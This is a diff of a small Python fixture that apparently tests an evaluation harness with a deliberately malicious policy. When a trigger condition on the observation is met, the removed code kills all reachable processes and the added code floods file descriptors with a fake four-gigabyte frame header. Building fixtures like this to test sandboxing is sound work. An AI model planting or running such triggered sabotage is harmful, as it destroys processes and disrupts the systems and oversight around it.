@@ -1,19 +1,17 @@
-"""Kills every process it can reach."""
+"""Sends the header of a frame of four gigabytes, with little data."""
 
 import contextlib
 import os
-import signal
 
 
-def provoked(observation):
+def is_triggered(observation):
     return observation[0] > 0.7 if len(observation) == 4 else observation[2] > 14.5
 
 
 class Model:
     def act(self, observation):
-        if provoked(observation):
-            for pid in (-1, os.getppid(), 1):
+        if is_triggered(observation):
+            for descriptor in range(3, 256):
                 with contextlib.suppress(OSError):
-                    os.kill(pid, signal.SIGKILL)
-            os.kill(os.getpid(), signal.SIGKILL)
+                    os.write(descriptor, b"\xff\xff\xff\xff" + b"\0" * 100)
         return [0.2] * 4 if len(observation) == 4 else [0.2, 0.0]
